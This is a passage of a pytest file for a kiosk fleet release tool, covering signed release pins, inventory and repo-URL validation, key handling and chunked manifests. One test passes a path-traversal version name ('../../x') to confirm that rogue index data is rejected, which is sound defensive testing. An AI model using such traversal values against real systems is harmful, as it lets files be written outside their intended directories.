    raises(fleet_release.validate_index, None, "app", "pi-east-1 index", match="^pi-east-1 index: not a repository")
    raises(fleet_release.validate_index, [], "app", match="^index: ")


def test_choose_pin_follows_the_highest_serial_and_ignores_down_pis(index, keys):
    behind = fleet_release.index_pin(index, signed_pin(keys, "1.3.0", 4))
    ahead = fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 5))
    choice = fleet_release.choose_pin({"http://a/": behind, "http://b/": None, "http://c/": ahead, "http://d/": index})
    assert choice == {"version": "1.4.0", "serial": 5, "repo": "http://c/", "signed_at": NOW}
    assert fleet_release.choose_pin({"http://c/": ahead, "http://a/": behind})["repo"] == "http://c/"
    frozen = fleet_release.index_pin(index, signed_pin(keys, None, 6))
    assert fleet_release.choose_pin({"http://a/": ahead, "http://b/": frozen})["version"] is None


def test_prune_plan_keeps_current_and_previous():
    present = ["1.10", "1.9", "1.2", "2.0", "1.10.1"]
    assert fleet_release.prune_plan(present, {"2.0", "1.10.1"}) == ["1.2", "1.9", "1.10"]
    assert fleet_release.prune_plan(["1.0"], {"1.0"}) == []
    assert fleet_release.prune_plan([], set()) == []


# --------------------------------------------------------------------------- files on disk


def test_read_index_new_when_missing_and_refused_when_torn(tmp_path):
    assert fleet_repo.read_index(str(tmp_path), "kiosk-app") == fleet_release.new_index("kiosk-app")
    (tmp_path / "kiosk-app").mkdir()
    (tmp_path / "kiosk-app" / "index.json").write_text("{nope")
    raises(fleet_repo.read_index, str(tmp_path), "kiosk-app", match=r"kiosk-app/index\.json: unreadable")


def test_check_free_space(tmp_path):
    assert fleet_fetch.check_free_space(str(tmp_path), 0) > 0
    message = raises(fleet_fetch.check_free_space, str(tmp_path), 1 << 60, "kiosk.disk")
    assert re.fullmatch(rf"kiosk\.disk: {re.escape(str(tmp_path))} has \d+ MiB free, the release needs {(1 << 40) + 1} MiB", message)


def test_disk_error():
    full = fleet_fetch.disk_error(OSError(errno.ENOSPC, "No space left on device"), "/x/app.zip.part")
    assert str(full) == "disk: no space left while writing /x/app.zip.part"
    denied = fleet_fetch.disk_error(PermissionError(errno.EACCES, "Permission denied"), "/x/a", "kiosk.dir")
    assert str(denied) == "kiosk.dir: cannot write /x/a: Permission denied"


def test_file_url():
    assert fleet_release.file_url("http://10.1.1.2:80/kiosk-releases/", "app", "1.0", "app.zip") == \
        "http://10.1.1.2:80/kiosk-releases/app/1.0/app.zip"
    assert fleet_release.file_url("http://pi/repo", "app", "1.0", "m.json") == "http://pi/repo/app/1.0/m.json"


# --------------------------------------------------------------------------- repo URLs and the inventory


def raw_inventory():
    return {
        "campuses": {
            "east": {
                "vlans": {"hall": {"network": "10.1.1.0/24"}, "stairs": {"network": "10.1.2.0/24"}},
                "pis": {
                    "pi-east-1": {"vlans": {"hall": {"source": "10.1.1.2"}, "stairs": {"source": "10.1.2.2"}}},
                    "pi-east-2": {"vlans": {"hall": {"source": "10.1.1.3"}, "stairs": {"source": "10.1.2.3"}}},
                    "pi-east-3": {"vlans": {"hall": {"interface": "eth0"}}},  # no address
                },
                "kiosks": {
                    "kiosk-east-01": {"mac": "52:54:00:e1:00:01", "ip": "10.1.1.11", "vlan": "hall"},
                    "kiosk-east-02": {"mac": "52:54:00:e1:00:02", "ip": "10.1.2.12", "vlan": "stairs"},
                },
            },
            "west": {
                "repo_port": 8080,
                "vlans": {"hall": {"network": "10.3.1.0/24"}, "lab": {"network": "10.3.2.0/24"}},
                "pis": {
                    "pi-west-1": {"vlans": {"lab": {"source": "10.3.2.2"}}},
                    "pi-west-2": {"vlans": {"hall": {"source": "10.3.1.3"}},
                                  "repo_url": "https://pi-west-2.lan/kiosk-releases"},
                },
                "kiosks": {"kiosk-west-01": {"mac": "52:54:00:a1:00:01", "ip": "10.3.1.11", "vlan": "hall"}},
            },
        }
    }


@pytest.fixture
def inventory():
    return fleet_inventory.validate(raw_inventory())


def test_repo_port_defaults_to_80_and_repo_url_is_normalised(inventory):
    assert inventory["campuses"]["east"]["repo_port"] == 80
    assert inventory["campuses"]["west"]["repo_port"] == 8080
    assert inventory["campuses"]["west"]["pis"]["pi-west-2"]["repo_url"] == "https://pi-west-2.lan/kiosk-releases/"
    assert "repo_url" not in inventory["campuses"]["east"]["pis"]["pi-east-1"]


def test_repo_url_prefers_the_kiosk_vlan_address(inventory):
    assert fleet_release.repo_url(inventory, "east", "pi-east-1", "stairs") == "http://10.1.2.2:80/kiosk-releases/"
    assert fleet_release.repo_url(inventory, "east", "pi-east-1", "hall") == "http://10.1.1.2:80/kiosk-releases/"
    # no VLAN, or a VLAN the Pi has no address on: its first address by VLAN name
    assert fleet_release.repo_url(inventory, "east", "pi-east-2") == "http://10.1.1.3:80/kiosk-releases/"
    assert fleet_release.repo_url(inventory, "west", "pi-west-1", "hall") == "http://10.3.2.2:8080/kiosk-releases/"
    assert fleet_release.repo_url(inventory, "west", "pi-west-2", "hall") == "https://pi-west-2.lan/kiosk-releases/"
    assert fleet_release.repo_url(inventory, "east", "pi-east-3", "hall") is None


def test_kiosk_repo_urls_home_pi_first_skipping_pis_without_address(inventory):
    assert fleet_release.kiosk_repo_urls(inventory, "east", "kiosk-east-02", "pi-east-2") == [
        ("pi-east-2", "http://10.1.2.3:80/kiosk-releases/"),
        ("pi-east-1", "http://10.1.2.2:80/kiosk-releases/"),
    ]
    assert fleet_release.kiosk_repo_urls(inventory, "east", "kiosk-east-01", "pi-east-3") == [
        ("pi-east-1", "http://10.1.1.2:80/kiosk-releases/"),
        ("pi-east-2", "http://10.1.1.3:80/kiosk-releases/"),
    ]
    assert fleet_release.kiosk_repo_urls(inventory, "west", "kiosk-west-01", "pi-west-1") == [
        ("pi-west-1", "http://10.3.2.2:8080/kiosk-releases/"),
        ("pi-west-2", "https://pi-west-2.lan/kiosk-releases/"),
    ]


def test_kiosk_repo_urls_errors(inventory):
    raises(fleet_release.kiosk_repo_urls, inventory, "east", "kiosk-west-01", "pi-east-1",
           match=r"^kiosk: 'kiosk-west-01' is not a kiosk of campus east")
    for pi in inventory["campuses"]["east"]["pis"].values():
        pi["vlans"] = {}
    raises(fleet_release.kiosk_repo_urls, inventory, "east", "kiosk-east-01", "pi-east-1",
           match=r"^campuses\.east\.pis: no Pi has a repo_url or a source address")


def inventory_errors(raw):
    with pytest.raises(fleet_inventory.InventoryError) as info:
        fleet_inventory.validate(raw)
    return info.value.errors


@pytest.mark.parametrize("bad", [0, 65536, -80, "80", "http", True, None, 80.0])
def test_bad_repo_port_is_named(bad):
    raw = raw_inventory()
    raw["campuses"]["east"]["repo_port"] = bad
    assert inventory_errors(raw) == [f"campuses.east.repo_port: {bad!r} is not a port number (1-65535)"]


@pytest.mark.parametrize(
    "bad", ["pi-east-1.lan/kiosk-releases/", "ftp://pi/kiosk-releases/", "http://", "http:///x/", "http://pi-east-1",
            "//pi/x/", 42, ["http://pi/"], {"url": "http://pi/"}]
)
def test_bad_repo_url_is_named(bad):
    raw = raw_inventory()
    raw["campuses"]["east"]["pis"]["pi-east-1"]["repo_url"] = bad
    assert inventory_errors(raw) == [
        f"campuses.east.pis.pi-east-1.repo_url: {bad!r} is not an http(s) URL ending in a path"
    ]


@pytest.mark.parametrize("bad", ["http://pi-east-1/kiosk releases/", "http://pi-east-1/kiosk-releases/\n"])
def test_repo_url_with_whitespace_is_refused(bad):
    # regression: the repo_url pattern only checked the start of the URL, so whitespace
    # after the host passed and surfaced later as a 404 on every kiosk
    raw = raw_inventory()
    raw["campuses"]["east"]["pis"]["pi-east-1"]["repo_url"] = bad
    assert any(e.startswith("campuses.east.pis.pi-east-1.repo_url:") for e in inventory_errors(raw))


def test_index_versions_must_be_versions():
    # they become directory names on the kiosk: a rogue LAN host must not make it write elsewhere
    index = {"format": 1, "name": "app", "versions": {"../../x": {}}, "pin": None}
    with pytest.raises(fleet_release.ReleaseError, match="index.versions"):
        fleet_release.validate_index(index, "app")


# --------------------------------------------------------------------------- error classes, installed records


def test_a_hash_mismatch_is_an_integrity_error_not_a_signature_error():
    with pytest.raises(fleet_release.IntegrityError) as info:
        fleet_release.compare(entry(APP), entry(CONF), "kiosk-ui 1.4.0 app.zip")
    assert not isinstance(info.value, fleet_release.SignatureError)
    assert str(info.value).startswith("kiosk-ui 1.4.0 app.zip: size mismatch")


def test_read_installed_reports_records_and_skips_what_it_cannot_read(tmp_path):
    assert fleet_client.read_installed(str(tmp_path / "absent")) == {}
    (tmp_path / "kiosk-app").mkdir()
    record = {"version": "1.4.0", "previous": "1.3.0", "serial": NOW, "signed_at": NOW, "installed_at": "x"}
    fleet_state.write_json_atomic(str(tmp_path / "kiosk-app" / "installed.json"), record)
    (tmp_path / "torn").mkdir()
    (tmp_path / "torn" / "installed.json").write_text('{"version": "1.')
    (tmp_path / "odd").mkdir()
    (tmp_path / "odd" / "installed.json").write_text('["1.0.0"]')
    (tmp_path / ".staging").mkdir()
    (tmp_path / ".staging" / "installed.json").write_text('{"version": "6.6.6"}')
    assert fleet_client.read_installed(str(tmp_path)) == {"kiosk-app": record}


# --------------------------------------------------------------------------- error classes, manifests from bytes


def test_bad_copy_is_decided_by_class():
    assert fleet_release.bad_copy(fleet_release.IntegrityError("x: md5 mismatch"))
    assert fleet_release.bad_copy(fleet_release.SignatureError("x.signature: does not match"))
    # the message does not matter: a source that is down says so by its class
    assert not fleet_release.bad_copy(fleet_release.SourceError("x: md5 mismatch (HTTP 503)"))
    assert not fleet_release.bad_copy(fleet_release.ReleaseError("disk: full"))
    assert not fleet_release.bad_copy(OSError("md5 mismatch"))
    assert issubclass(fleet_release.SourceError, fleet_release.ReleaseError)


def test_load_manifest_checks_the_signature_before_the_fields(keys, manifest):
    signed = fleet_sign.sign(manifest, keys["private"])
    raw = json.dumps(signed).encode()
    assert fleet_sign.load_manifest(raw, [keys["public"]], "kiosk-ui", manifest["version"]) == signed
    with pytest.raises(fleet_release.ReleaseError, match=r"^manifest: pi-1 is not JSON") as info:
        fleet_sign.load_manifest(b"<html>", [keys["public"]], source="pi-1")
    assert not isinstance(info.value, fleet_release.SignatureError)
    garbage = json.dumps({"files": "nope"}).encode()
    with pytest.raises(fleet_release.SignatureError, match=r"^manifest\.signature: missing"):
        fleet_sign.load_manifest(garbage, [keys["public"]])
    with pytest.raises(fleet_release.ReleaseError, match=r"manifest\.version: .* is not the version asked for"):
        fleet_sign.load_manifest(raw, [keys["public"]], "kiosk-ui", "9.9.9")


def test_signing_downloads_and_the_install_record_live_only_in_their_own_modules():
    # one place per rule: the release model no longer answers for what moved out of it
    moved = {fleet_sign: ("canonical", "sign", "sign_pin", "verify", "verify_pin", "verify_index"),
             fleet_fetch: ("Digest", "hash_file", "fetch", "check_free_space", "disk_error"),
             fleet_client: ("read_installed",)}
    for module, names in moved.items():
        for name in names:
            assert hasattr(module, name), (module.__name__, name)
            assert not hasattr(fleet_release, name), name
    assert not hasattr(fleet_release, "write_json_atomic") and not hasattr(fleet_release, "read_json")


def test_session_binds_the_source_address_only_when_asked():
    plain = fleet_fetch.session()
    assert plain.trust_env is False and plain.max_redirects == 0
    bound = fleet_fetch.session("127.0.0.1")
    adapter = bound.get_adapter("http://127.0.0.2/")
    assert adapter.poolmanager.connection_pool_kw["source_address"] == ("127.0.0.1", 0)
    assert "source_address" not in plain.get_adapter("http://127.0.0.2/").poolmanager.connection_pool_kw


# --------------------------------------------------------------------------- signing keys (fleet_sign)


def test_key_pair_signs_and_verifies_and_the_public_key_is_derived_from_the_private_one():
    private, public = fleet_sign.new_key_pair()
    assert b"PRIVATE KEY" in private and "PUBLIC KEY" in public and "PRIVATE" not in public
    assert fleet_sign.public_key_of(private) == public
    doc = fleet_sign.sign_manifest({"name": "kiosk-app", "version": "1.0.0"}, private)
    fleet_sign.verify_signature(doc, public)
    other = fleet_sign.new_key_pair()[1]
    with pytest.raises(fleet_release.SignatureError):
        fleet_sign.verify_signature(doc, other)


def test_a_key_that_is_not_ed25519_or_not_a_key_is_refused_naming_the_field():
    with pytest.raises(fleet_release.SignatureError, match=r"^kiosk_release\.signing_key: not a PEM private key"):
        fleet_sign.public_key_of(b"not a key")
    with pytest.raises(fleet_release.SignatureError, match=r"^key: not a PEM private key"):
        fleet_sign.public_key_of(fleet_sign.new_key_pair()[1].encode(), "key")


@pytest.mark.parametrize("mode, ok", [(0o600, True), (0o400, True), (0o640, False), (0o604, False), (0o644, False)])
def test_a_private_key_readable_by_others_is_refused(mode, ok):
    if ok:
        fleet_sign.check_key_mode(stat.S_IFREG | mode)
    else:
        with pytest.raises(fleet_release.SignatureError, match=r"^kiosk_release\.signing_key: mode 0\d+ lets others read"):
            fleet_sign.check_key_mode(stat.S_IFREG | mode)


# --------------------------------------------------------------------------- chunk lists (delta transfers)


def with_chunks(manifest, lengths):
    offset, chunks = 0, []
    for length in lengths:
        chunks.append([length, hashlib.sha256(APP[offset:offset + length]).hexdigest()])
        offset += length
    manifest["files"]["app.zip"]["chunks"] = chunks
    return manifest


def test_a_manifest_with_chunks_is_valid_and_one_without_still_is(manifest):
    assert "chunks" not in manifest["files"]["app.zip"]  # old manifests: the key is optional
    with_chunks(manifest, [1000, len(APP) - 1000])
    assert fleet_release.validate_manifest(manifest) is manifest
    manifest["files"]["kiosk.conf"]["chunks"] = [[len(CONF), hashlib.sha256(CONF).hexdigest()]]
    fleet_release.validate_manifest(manifest)


@pytest.mark.parametrize("mutate, field, words", [
    (lambda e: e.update(chunks="abc"), "manifest.files.app.zip.chunks", "expected a list"),
    (lambda e: e.update(chunks=None), "manifest.files.app.zip.chunks", "expected a list"),
    (lambda e: e["chunks"].append([0, "a" * 64]), "manifest.files.app.zip.chunks[2]", "not a positive byte count"),
    (lambda e: e["chunks"][1].__setitem__(0, True), "manifest.files.app.zip.chunks[1]", "not a positive byte count"),
    (lambda e: e["chunks"][1].__setitem__(0, -5), "manifest.files.app.zip.chunks[1]", "not a positive byte count"),
    (lambda e: e["chunks"][1].__setitem__(0, "800"), "manifest.files.app.zip.chunks[1]", "not a positive byte count"),
    (lambda e: e["chunks"][0].__setitem__(1, "A" * 64), "manifest.files.app.zip.chunks[0]", "lowercase hex sha256"),
    (lambda e: e["chunks"][0].__setitem__(1, "a" * 63), "manifest.files.app.zip.chunks[0]", "lowercase hex sha256"),
    (lambda e: e["chunks"][0].pop(), "manifest.files.app.zip.chunks[0]", "not a [length, sha256] pair"),
    (lambda e: e["chunks"].__setitem__(0, {"length": 1000}), "manifest.files.app.zip.chunks[0]", "not a [length, sha256] pair"),
    (lambda e: e["chunks"].append([7, "a" * 64]), "manifest.files.app.zip.chunks", "sum to 1807, the file's size is 1800"),
    (lambda e: e["chunks"].pop(), "manifest.files.app.zip.chunks", "sum to 1000, the file's size is 1800"),
])
def test_bad_chunk_lists_are_named(manifest, mutate, field, words):
    with_chunks(manifest, [1000, 800])
    mutate(manifest["files"]["app.zip"])
    with pytest.raises(ReleaseError) as info:
        fleet_release.validate_manifest(manifest)
    hits = [e for e in info.value.errors if e.startswith(field + ":")]
    assert hits and words in hits[0], info.value.errors


def test_a_long_broken_chunk_list_reports_the_first_few():
    errors = fleet_release.chunk_errors([[0, "x"]] * 1000, 0, "f.chunks")
    assert len(errors) == 6 and errors[-1] == "f.chunks: more errors not shown"
